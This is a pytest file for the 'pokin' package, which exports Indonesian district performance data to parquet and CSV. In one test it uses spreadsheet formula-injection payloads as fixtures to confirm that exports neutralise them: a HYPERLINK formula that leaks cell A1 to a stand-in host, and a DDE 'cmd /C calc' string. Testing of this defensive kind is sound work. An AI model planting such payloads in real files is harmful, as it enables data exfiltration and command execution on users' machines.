"""pokin.frames and pokin export --format parquet|csv."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest

import pokin
from pokin.cli import main
from pokin.dataframes import records, write_tables

from .conftest import jab, make

pd = pytest.importorskip("pandas")


def test_frames_hold_every_position_indicator_link_and_finding() -> None:
    tree = pokin.datasets.load("sambutan-2023")
    f = pokin.frames(tree)
    assert len(f.jabatan) == 22
    assert len(f.kinerja) == 32  # and no IKU table in Sambutan
    assert len(f.indikator) == 81
    findings = pokin.check(tree)
    assert len(f.findings) == len(findings)
    assert sorted(f.findings.code) == sorted(x.code for x in findings)
    assert len(f.coverage) == len(findings.coverage().units) + 1  # and the total
    assert (f.indikator.organisasi == "Kecamatan Sambutan").all()
    orphan = f.kinerja.set_index("id").loc["kasi-kebersihan-lh.k1"]
    assert not orphan.terhubung_iku
    staff = f.jabatan.set_index("id")
    assert (
        staff.loc["pengelola-data-kecamatan", "baris"]
        == staff.loc["bendahara-pengeluaran", "baris"]
    )
    link = f.tautan.set_index("dari").loc["pengadministrasi-prasarana-sarana-umum.k1"]
    assert link.ke == "camat.k4.i1"
    assert link.relasi == "skip"


def test_tables_of_many_kecamatan_concatenate() -> None:
    both = pd.concat(
        [pokin.frames(pokin.datasets.load(n)).indikator for n in ("sambutan-2023", "kebomas-2023")]
    )
    per = both.groupby("organisasi").size()
    assert per["Kecamatan Sambutan"] == 81
    assert per["Kecamatan Kebomas"] == 2041
    iku = both[both.iku & (both.organisasi == "Kecamatan Kebomas")]
    assert sorted(iku.id) == ["I.K.S.1.1", "I.K.S.2.1"]


def test_capaian_is_a_number() -> None:
    rows = records(pokin.datasets.load("sambutan-2023"))["indikator"]
    assert all(r["capaian"] is None or isinstance(r["capaian"], float) for r in rows)


@pytest.mark.parametrize("fmt", ["parquet", "csv"])
def test_export_tables_read_back(tmp_path: Path, fmt: str) -> None:
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    out = tmp_path / "sambutan"
    assert main(["export", "sambutan-2023", "--format", fmt, "-o", str(out)]) == 0
    names = sorted(p.name for p in out.iterdir())
    assert names == sorted(f"{t}.{fmt}" for t in pokin.Frames.__dataclass_fields__)
    read = pd.read_parquet if fmt == "parquet" else pd.read_csv
    indikator = read(out / f"indikator.{fmt}")
    assert len(indikator) == 81
    assert set(indikator.columns) >= {"organisasi", "tahun", "id", "uraian", "capaian"}
    # a second run never replaces files an analyst may have edited, unless --force
    assert main(["export", "sambutan-2023", "--format", fmt, "-o", str(out)]) == 2
    assert main(["export", "sambutan-2023", "--format", fmt, "-o", str(out), "--force"]) == 0


def test_csv_cells_never_run_as_formulas(tmp_path: Path) -> None:
    """A decree's text that a spreadsheet would run (=, +, -, @) is written as text to CSV;
    numbers, and every value in the frames themselves, are kept as they are."""

    def hostile(d: dict[str, Any]) -> None:
        staf = jab(d, "staf")
        staf["nama"] = '=HYPERLINK("http://x.example/?"&A1,"klik")'
        staf["kinerja"][0]["uraian"] = "@SUM(1+1)*cmd|' /C calc'!A0"
        staf["kinerja"][0]["indikator"][0]["target"] = "-5"

    tree = make(hostile)
    (jabatan_csv, *_) = [
        p for p in write_tables(tree, tmp_path, format="csv") if p.name == "jabatan.csv"
    ]
    text = jabatan_csv.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text
    assert ",=HYPERLINK" not in text
    kinerja = (tmp_path / "kinerja.csv").read_text(encoding="utf-8")
    assert "'@SUM(1+1)" in kinerja
    indikator = pd.read_csv(tmp_path / "indikator.csv", dtype=str)
    assert "-5" in set(indikator["target"])  # a number stays a number
    assert pokin.frames(tree).jabatan["nama"].str.startswith("=").any()  # frames unchanged


def test_export_tables_refuses_a_file_as_folder(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    target.write_text("keep", encoding="utf-8")
    assert main(["export", "sambutan-2023", "--format", "csv", "-o", str(target)]) == 2
    assert target.read_text(encoding="utf-8") == "keep"


def test_without_pandas_a_clear_message(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setitem(sys.modules, "pandas", None)  # import pandas now fails
    with pytest.raises(pokin.PokinError, match=r"pip install 'pokin\[pandas\]'"):
        pokin.frames(pokin.datasets.load("sambutan-2023"))
    out = tmp_path / "t"
    assert main(["export", "sambutan-2023", "--format", "csv", "-o", str(out)]) == 2
    assert "pokin[pandas]" in capsys.readouterr().err
    assert not out.exists() or not any(out.iterdir())  # nothing half-written
